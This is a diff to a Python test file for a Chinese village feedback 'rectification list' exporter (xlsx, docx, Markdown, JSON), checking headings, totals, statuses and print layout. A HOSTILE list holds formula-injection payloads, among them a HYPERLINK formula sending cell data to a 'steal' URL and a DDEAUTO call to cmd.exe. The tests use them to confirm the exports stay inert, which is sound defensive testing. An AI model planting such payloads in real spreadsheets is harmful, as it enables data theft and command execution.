@@ -1,12 +1,33 @@
-"""The rectification list: every export read back (openpyxl, python-docx), praise left out, 其他 last."""
+"""The rectification list: every export read back (openpyxl, python-docx), praise left out, 其他 last;
+the unit, the date and the totals on top; formula-like text inert; pages rendered and looked at."""
 
+import datetime as dt
 import io
 import json
+import re
+import subprocess
+import zipfile
+from pathlib import Path
 
 import pytest
 
-from drafting.feedback.export import COLUMNS, rectification_rows, to_docx, to_json, to_markdown, to_xlsx
+from drafting.feedback.export import (
+    COLUMNS,
+    FORM_COLUMNS,
+    LINE_PT,
+    STATUSES,
+    rectification_rows,
+    to_docx,
+    to_json,
+    to_markdown,
+    to_xlsx,
+)
 from drafting.feedback.models import AssignedOpinion, ClassifyResult, DiscoveredTheme, ThemeSummary
+
+UNIT = "东岭村党支部"
+DAY = dt.date(2024, 1, 5)
+HEADING = "单位：东岭村党支部　　　　日期：2024年1月5日"
+ARTIFACTS = Path(__file__).parent / "artifacts"
 
 
 @pytest.fixture
@@ -44,21 +65,25 @@ def test_rows_largest_first_without_praise_and_other_last(result):
 def test_xlsx_reads_back(result):
     from openpyxl import load_workbook
 
-    book = load_workbook(io.BytesIO(to_xlsx(result)))
+    book = load_workbook(io.BytesIO(to_xlsx(result, unit=UNIT, date=DAY)))
     sheet = book["整改清单"]
     assert sheet["A1"].value == "群众评议意见整改清单" and sheet["A1"].font.bold
+    assert sheet["A2"].value == HEADING
     answers = len({a.line for a in result.assignments})
     totals = f"共收到 {answers} 份回答、意见 {result.total} 条（去重后 {result.unique} 条）"
-    assert sheet["A2"].value.startswith(totals)
-    assert [c.value for c in sheet[3]] == list(COLUMNS)
-    assert sheet.freeze_panes == "A4" and sheet.print_title_rows == "$3:$3"
+    assert sheet["A3"].value.startswith(totals)
+    assert [c.value for c in sheet[4]] == list(COLUMNS)
+    assert sheet.freeze_panes == "A5" and sheet.print_title_rows == "$4:$4"
     assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
-    assert sheet["B4"].value == "停车、车位（新发现）"
-    assert sheet["D4"].value == 3 and sheet["E4"].value == 0.3 and sheet["E4"].number_format == "0.0%"
-    assert sheet["F5"].value == "1. 食堂太贵\n2. 路灯不亮" and sheet["F5"].alignment.wrap_text
-    assert sheet["F5"].font.name == "仿宋_GB2312" and sheet["A3"].font.bold
+    assert sheet["B5"].value == "停车、车位（新发现）"
+    assert sheet["D5"].value == 3 and sheet["E5"].value == 0.3 and sheet["E5"].number_format == "0.0%"
+    assert sheet["F6"].value == "1. 食堂太贵\n2. 路灯不亮" and sheet["F6"].alignment.wrap_text
+    assert sheet["F6"].font.name == "仿宋_GB2312" and sheet["A4"].font.bold
     assert sheet.column_dimensions["F"].width > 20
-    assert sheet.max_row == 6
+    assert sheet.max_row == 7
+    assert sheet.row_dimensions[6].height >= 2 * LINE_PT  # two quoted lines, both printed
+    assert [sheet.cell(r, 10).value for r in range(5, 8)] == [STATUSES[0]] * 3
+    assert sheet.data_validations.dataValidation[0].formula1 == '"待整改,整改中,已完成"'
     detail = book["意见明细"]
     assert detail.max_row == 1 + len(result.assignments)
     assert [c.value for c in detail[12]] == [10, "我是张**，一件零散的事", "其他", None, 0.3]
@@ -69,9 +94,10 @@ def test_docx_reads_back_in_gbt9704_fonts(result):
     from docx.enum.section import WD_ORIENT
     from docx.oxml.ns import qn
 
-    doc = Document(io.BytesIO(to_docx(result)))
+    doc = Document(io.BytesIO(to_docx(result, unit=UNIT, date=DAY)))
     assert doc.paragraphs[0].text == "群众评议意见整改清单"
-    assert doc.paragraphs[1].text.startswith("共收到 ")
+    assert doc.paragraphs[1].text.startswith(HEADING) and "负责人（签字）：" in doc.paragraphs[1].text
+    assert doc.paragraphs[2].text.startswith("共收到 ")
     assert doc.sections[0].orientation == WD_ORIENT.LANDSCAPE
     assert "PAGE" in doc.sections[0].footer._element.xml  # page numbers
     table = doc.tables[0]
@@ -85,8 +111,9 @@ def test_docx_reads_back_in_gbt9704_fonts(result):
 
 
 def test_markdown_and_json(result):
-    md = to_markdown(result)
-    assert "| 序号 | 问题类别 |" in md and "停车、车位（新发现）" in md and "另有 5 条为肯定或无意见" in md
+    md = to_markdown(result, unit=UNIT, date=DAY)
+    assert HEADING in md and "| 序号 | 问题类别 |" in md and "停车、车位（新发现）" in md
+    assert "另有 5 条为肯定或无意见" in md
     assert md.index("停车、车位") < md.index("服务群众") < md.index("| 3 | 其他")
     data = json.loads(to_json(result))
     assert ClassifyResult.model_validate(data) == result
@@ -134,3 +161,128 @@ def test_every_default_theme_has_a_measure_template():
             assert measure and department and "针对群众反映的" not in measure, theme.id
     measure, department = measure_for("新主题", "停车、车位", ["停车", "车位"])
     assert "停车、车位" in measure and department == ""
+
+
+def test_the_date_is_today_unless_given(result):
+    today = dt.date.today()
+    assert f"日期：{today.year}年{today.month}月{today.day}日" in to_markdown(result)
+    assert "单位：" not in to_markdown(result)
+
+
+def test_deadline_and_status_are_filled_where_known(result):
+    known = result.model_copy(deep=True)
+    known.themes[1] = known.themes[1].model_copy(update={"deadline": "2024年3月底", "status": "整改中"})
+    rows = {row.category: row for row in rectification_rows(known)}
+    assert (rows["服务群众"].deadline, rows["服务群众"].status) == ("2024年3月底", "整改中")
+    assert (rows["其他"].deadline, rows["其他"].status) == ("", STATUSES[0])
+    assert rows["服务群众"].department == "办公室"
+
+
+def test_the_totals_count_the_lines_that_are_not_opinions(result):
+    skipped = result.model_copy(update={"skipped": 22})
+    assert "会议记录的标题、主持人、记录人等 22 行不是意见，未计入" in to_markdown(skipped)
+
+
+def test_the_detail_sheet_carries_the_form_number_and_department(result):
+    from openpyxl import load_workbook
+
+    form = result.model_copy(deep=True)
+    form.assignments = [a.model_copy(update={"number": str(40 + k), "department": "冲压一班"})
+                        for k, a in enumerate(form.assignments)]
+    detail = load_workbook(io.BytesIO(to_xlsx(form)))["意见明细"]
+    assert [c.value for c in detail[1]][:3] == ["行号", *FORM_COLUMNS]
+    assert [c.value for c in detail[12]][:4] == [10, "50", "冲压一班", "我是张**，一件零散的事"]
+
+
+HOSTILE = ['=HYPERLINK("http://x/steal?d="&A1,"点击查看详情")', "=1+1 食堂", "+1+1", "-1+1 停车",
+           "@SUM(A1)", "\t=1+1", "\r=1+1", "DDEAUTO c:\\windows\\system32\\cmd.exe", "坏\x00字符\x07"]
+
+
+def _hostile(result: ClassifyResult) -> ClassifyResult:
+    """The fixture with formula-like text in every place a user's text reaches: quotes, theme names,
+    measures, departments, the opinions themselves."""
+    bad = result.model_copy(deep=True)
+    bad.themes[1] = bad.themes[1].model_copy(update={
+        "name": HOSTILE[1], "representatives": HOSTILE[:3], "measure": HOSTILE[3], "department": HOSTILE[4]})
+    bad.themes[2] = bad.themes[2].model_copy(update={"representatives": HOSTILE[5:]})
+    bad.assignments = [a.model_copy(update={"text": HOSTILE[k % len(HOSTILE)]})
+                       for k, a in enumerate(bad.assignments)]
+    return bad
+
+
+def test_formula_like_text_stays_inert_in_xlsx(result):
+    from openpyxl import load_workbook
+
+    data = to_xlsx(_hostile(result), unit="=1+2", date=DAY)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist()
+                  if name.startswith("xl/worksheets/")]
+    assert len(sheets) == 2 and not any(re.search(r"<f[ >]", xml) for xml in sheets)  # no formula anywhere
+    book = load_workbook(io.BytesIO(data))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert len(risky) >= 12 and all(c.data_type == "s" and c.quotePrefix for c in risky)
+    texts = {c.value for c in cells}
+    assert HOSTILE[0] in texts and "坏字符" in texts  # kept as written, control characters dropped
+
+
+def test_docx_carries_no_field_with_user_text(result):
+    data = to_docx(_hostile(result), unit="=1+2", date=DAY)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.startswith("word/")}
+    xml = "".join(parts.values())
+    assert "w:fldSimple" not in xml and "DDE" not in "".join(re.findall(r"<w:instrText[^>]*>([^<]*)<", xml))
+    assert {text.strip() for text in re.findall(r"<w:instrText[^>]*>([^<]*)<", xml)} == {"PAGE"}
+    assert "HYPERLINK" in parts["word/document.xml"] and "<w:hyperlink" not in xml
+
+
+def _rendered(data: bytes, name: str, folder: Path) -> tuple[str, list[Path]]:
+    """A file converted by LibreOffice: its PDF text (pdftotext) and its pages as PNG (60 dpi), the PNGs
+    saved under tests/artifacts/ to be looked at."""
+    source = folder / name
+    source.write_bytes(data)
+    subprocess.run(["libreoffice", f"-env:UserInstallation=file://{folder / 'profile'}", "--headless",
+                    "--convert-to", "pdf", "--outdir", str(folder), str(source)],
+                   check=True, capture_output=True, timeout=180)
+    pdf = source.with_suffix(".pdf")
+    text = subprocess.run(["pdftotext", "-raw", str(pdf), "-"], check=True, capture_output=True, text=True,
+                          timeout=60).stdout
+    ARTIFACTS.mkdir(exist_ok=True)
+    stem = ARTIFACTS / f"rectification-{source.suffix[1:]}"
+    for old in ARTIFACTS.glob(f"{stem.name}-*.png"):
+        old.unlink()
+    subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(stem)], check=True, timeout=60)
+    return text, sorted(ARTIFACTS.glob(f"{stem.name}-*.png"))
+
+
+def _long_result() -> ClassifyResult:
+    """Eight themes with long quotes and measures, like a village record's list."""
+    quote = "村东头那段路坑坑洼洼，一下雨就是泥窝子，拖拉机都过不去，骑电动车颠得腰疼，啥时候能硬化？"
+    measure = ("针对群众反映集中的道路问题，逐段排查村内道路破损情况，制定硬化计划并张榜公布，"
+               "明确责任人和完成时限，完工后组织村民代表验收。")
+    themes = [ThemeSummary(id=f"t{k}", name=f"第{k}类问题", count=20 - k, share=(20 - k) / 200,
+                           representatives=[f"{k}-{j}：{quote}" for j in range(3)], measure=measure,
+                           department="村两委", summary="主要反映道路、路灯、排水等方面的问题。")
+              for k in range(8)]
+    assignments = [AssignedOpinion(line=k, text=quote, theme=f"t{k % 8}", score=0.8) for k in range(124)]
+    return ClassifyResult(total=124, unique=124, themes=themes, assignments=assignments, engine="embedded")
+
+
+def _squeezed(text: str) -> str:
+    return re.sub(r"\s+", "", text)
+
+
+@pytest.mark.slow
+def test_both_files_print_whole_and_word_fits_several_rows_a_page(tmp_path):
+    long = _long_result()
+    text, pages = _rendered(to_xlsx(long, unit=UNIT, date=DAY), "list.xlsx", tmp_path)
+    printed = _squeezed(text)
+    for row in rectification_rows(long):  # a cut cell would lose its last characters in print
+        for value in row.cells()[1:]:
+            for line in str(value).split("\n"):
+                assert _squeezed(line) in printed, line
+    assert pages and _squeezed(HEADING) in printed
+    text, pages = _rendered(to_docx(long, unit=UNIT, date=DAY), "list.docx", tmp_path)
+    per_page = [page.count("待整改") for page in text.split("\f") if page.strip()]
+    assert sum(per_page) == 8 and len(pages) == len(per_page)
+    assert all(per_page) and sum(per_page) / len(per_page) >= 2  # one row a page before
